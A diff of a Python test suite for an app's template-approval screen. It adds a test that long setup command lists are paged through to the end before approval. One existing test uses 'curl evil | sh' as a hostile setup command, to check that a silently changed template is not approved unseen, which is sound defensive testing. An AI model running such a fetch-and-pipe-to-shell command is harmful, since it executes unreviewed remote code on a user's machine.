@@ -68,6 +68,20 @@ async def test_what_is_changed_in_the_form_stands_above_the_template(live: Live)
     assert live.hived.asked[0][2] == {"name": "worker-1", "template": "tester", "model": "smaller"}
 
 
+async def test_what_a_template_says_is_read_to_its_end_before_it_is_approved(live: Live) -> None:
+    live.hived.templates[1] = TESTER.model_copy(
+        update={"said": {**TESTER.said, "setup": [f"echo {'x' * 60}"] * 20 + ["the last command"]}}
+    )
+    await live.pilot.press("ctrl+r")
+    await choose(live, "tester")
+    await live.until(lambda: "pgdn reads on" in live.text and "the last command" not in live.text, "its beginning")
+    for _ in range(4):
+        await live.pilot.press("pagedown")
+    await live.until(lambda: "the last command" in live.text, "its end")
+    await live.pilot.press("pageup", "pageup", "pageup", "pageup")
+    await live.until(lambda: "Engines and templates" in live.text, "the beginning again")
+
+
 async def test_a_template_that_was_changed_meanwhile_is_not_approved_unseen(live: Live) -> None:
     await choose(live, "tester")
     live.hived.templates[1] = TESTER.model_copy(update={"said": {**TESTER.said, "setup": ["curl evil | sh"]}})
